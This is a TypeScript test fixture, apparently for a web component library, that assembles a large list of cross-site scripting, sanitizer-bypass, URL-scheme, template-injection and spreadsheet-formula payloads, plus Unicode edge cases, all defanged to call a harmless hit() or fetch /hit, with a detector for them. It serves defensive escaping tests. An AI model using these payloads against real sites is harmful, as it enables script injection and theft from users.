/** Ends what a text may stand in, so that what follows would be markup. */
const endings = ['', '">', "'>", '`>', '-->', ']]>', '</style>', '</textarea>', '</title>', '</template>', '</svg>', '" x="'] as const;

/** What markup could do, if it were ever read as such: each calls `hit`, or asks the network for `/hit`. */
const markup = [
  '<script>hit()</script>', '<img src=x onerror=hit()>', '<svg onload=hit()>', '<iframe srcdoc="<script>parent.hit()</script>">', '<a href="javascript:hit()">x</a>', '<details open ontoggle=hit()>',
  '<input autofocus onfocus=hit()>', '<style>*{background:url(/hit)}</style>', '<link rel=stylesheet href=/hit>', '<img src=/hit>', '<math><mi xlink:href="javascript:hit()">x', '<form action=javascript:hit()><button>x',
] as const;

/** Attributes and elements that once got past somebody's list of bad ones. */
const further = [
  '<svg><animate onbegin=hit() attributeName=x>', '<svg><set onbegin=hit() attributeName=x>', '<svg><a><animate attributeName=href values=javascript:hit() /><text>x', '<svg><use href="data:image/svg+xml,<svg onload=hit()>">',
  '<svg><script>hit()</script>', '<svg><style><img src=x onerror=hit()></style>', '<svg><foreignObject><img src=x onerror=hit()>', '<svg><title><img src=x onerror=hit()>', '<math><mtext><table><mglyph><style><img src=x onerror=hit()>',
  '<math href="javascript:hit()">x', '<body onload=hit()>', '<body onhashchange=hit()>', '<video><source onerror=hit()>', '<video poster=/hit>', '<audio src onerror=hit()>', '<object data=/hit>', '<object data="javascript:hit()">', '<embed src=/hit>',
  '<meta http-equiv=refresh content="0;url=/hit">', '<base href=/hit/>', '<template shadowrootmode=open><script>hit()</script></template>', '<x-y is=script>hit()</x-y>', '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<table background=/hit>', '<image href=/hit>', '<marquee onstart=hit()>', '<select autofocus onfocus=hit()>', '<textarea autofocus onfocus=hit()>', '<keygen autofocus onfocus=hit()>', '<button popovertarget=x onbeforetoggle=hit()>',
  '<div onpointerover=hit()>', '<div style="animation-name:x" onanimationstart=hit()>', '<div style="background:url(/hit)">', '<div style="width:expression(hit())">', '<p contenteditable onfocus=hit() autofocus>', '<dialog open onclose=hit()>',
  '<frameset onload=hit()>', '<iframe src="javascript:parent.hit()">', '<iframe src=data:text/html,<script>parent.hit()</script>>', '<img srcset="/hit 1x">', '<img src=x:x onerror=hit() loading=eager>', '<IMG SRC=x OnErRoR=hit()>', '<img/src=x/onerror=hit()>',
  '<img src=x\nonerror\n=\nhit()>', '<img\tsrc=x\tonerror=hit()>', '<img src="x` `<script>hit()</script>"` `>', '<<script>hit()//<</script>', '<scr<script>ipt>hit()</scr</script>ipt>', '<script/x>hit()</script>', '<script src=/hit></script>', '<script src=//hit.example/hit>',
  '<!--><img src=x onerror=hit()>-->', '<!--<img src="--><img src=x onerror=hit()//">', '<![CDATA[><img src=x onerror=hit()>]]>', '<?xml-stylesheet href="/hit"?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "/hit">]>', '<slot name=x onslotchange=hit()>',
  '<cordee-composer text="<img src=x onerror=hit()>">', '<cordee-journey url=/hit token-url=/hit>', '<cordee-provider token-url=/hit>', '<form id=test></form><button form=test formaction=javascript:hit()>x', '<a id=hit><a id=hit name=x href=/hit>', '<form name=body><input name=firstChild>', '<img name=getElementById>',
  '<p title="<img src=x onerror=hit()>">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>', '<svg></p><style><a id="</style><img src=1 onerror=hit()>">', '<a href="x" ping=/hit>x', '<area href=javascript:hit()>', '<portal src=/hit>', '<link rel=prefetch href=/hit>', '<link rel=modulepreload href=/hit>', '<script type=importmap>{"imports":{"lit":"/hit"}}</script>',
] as const;

/** What stands where an address is expected. */
const addresses = [
  'javascript:hit()', 'JaVaScRiPt:hit()', ' javascript:hit()', '\tjavascript:hit()', 'java\tscript:hit()', 'java\nscript:hit()', 'javascript\r:hit()', '\u0001javascript:hit()', 'javascript&colon;hit()', '&#106;avascript:hit()', 'javascript:%68it()', 'javascript://%0Ahit()',
  'vbscript:hit()', 'data:text/html,<script>hit()</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==', 'blob:hit()', 'filesystem:/hit', '//hit.example/hit', '\\\\hit.example\\hit', '/hit', '../hit', '?hit()', '#hit()', 'https:/hit', 'view-source:/hit', 'feed:javascript:hit()',
] as const;

/** What a template engine, a style sheet or a second decoding would make of a text. */
const templates = [
  'url(/hit)', 'expression(hit())', '@import "/hit";', '}*{background:url(/hit)}', '%3Cscript%3Ehit()%3C/script%3E', '%253Cscript%253Ehit()', '&lt;script&gt;hit()&lt;/script&gt;', '&#60;script&#62;hit()&#60;/script&#62;', '&amp;lt;img src=x onerror=hit()&amp;gt;',
  '\\x3cscript\\x3ehit()\\x3c/script\\x3e', '\\u003cscript\\u003ehit()', '+ADw-script+AD4-hit()+ADw-/script+AD4-', '＜script＞hit()＜/script＞', '\u2039script\u203Ahit()', '¼script¾hit()¼/script¾',
  '${hit()}', '{{constructor.constructor(\'hit()\')()}}', '{{hit()}}', '#{hit()}', '<%= hit() %>', '[[hit()]]', '{%hit()%}', "' + hit() + '", '";hit();//', "';hit();//", '`${hit()}`', '*/hit()/*', '\u2028hit()', '()=>hit()', '[x](javascript:hit())', '![x](/hit)', '<javascript:hit()>', '[x]: /hit', '**<img src=x onerror=hit()>**', '=HYPERLINK("/hit")', '=cmd|\'/c hit()\'!A1', '@SUM(hit())',
  '<?lit$123$?>', '<!--lit-part hit()-->', 'lit$0123456789$', '<!--?lit$0123456789$-->', '<x .innerHTML=hit()>', '@click=hit()',
] as const;

/** What is no code, and could still break a page, a line or a lookup. */
const odd = [
  '\u202Emoc.elpmaxe', 'a\u202Db\u202Cc', '\u2066\u2067x\u2069', '\u2069\u2069\u202Ex', '\u200F\u200Eשלום', '\u061Cعربي', 'Z\u0335\u0321\u035Ca\u0336l\u0334g\u0337o\u0338'.repeat(20), '\u200B\u2060\uFEFF', '\u3164', '\u00AD'.repeat(50), '\u115F\u1160', '\u180E\u17B4',
  '👩‍👩‍👧‍👦'.repeat(12), '🇫🇷🇬🇧🇪🇸', '🏽🏽🏽', 'e\u0301'.repeat(200), 'x'.repeat(3_000), '語'.repeat(500), '\u0E01\u0E33'.repeat(200), `https://example.com/${'a'.repeat(300)}`, 'line\nline\r\nline\u2028line\u2029line\u0085line', '\n'.repeat(100), '\t\v\f', '\uFFFD', '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}',
  '\uD800', '\uDFFFx', '\0', 'a\0b', '\u0007\u001B[31mx', '\uFFFE\uFFFF', '\u{10FFFF}',
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'then', '[object Object]', 'undefined', 'null', 'true', 'NaN', '-0', '0', '1e309', ' ', "O'Brien & Sons <ltd>", '100 %', '%s %d %n', '%', '..//../', 'CON', '$&', '$1', '$`', '\\', '"', "''", '<', '>', '&', '&amp;', '&nbsp;', ']]>', '(((((((((((((((((((((', '.*+?^${}()|[]\\',
] as const;

/** Each different, in an order that puts neighbours of one kind next to each other. */
export const hostileTexts: readonly string[] = [...new Set([...endings.flatMap((ending) => markup.map((one) => `${ending}${one}`)), ...further, ...addresses, ...templates, ...odd])];

/** Whether a text that could do something is there; what is no code is not looked for, since a page may hold it anyway. */
export const isHostile = (text: string): boolean => text.includes('hit(') || text.includes('/hit');
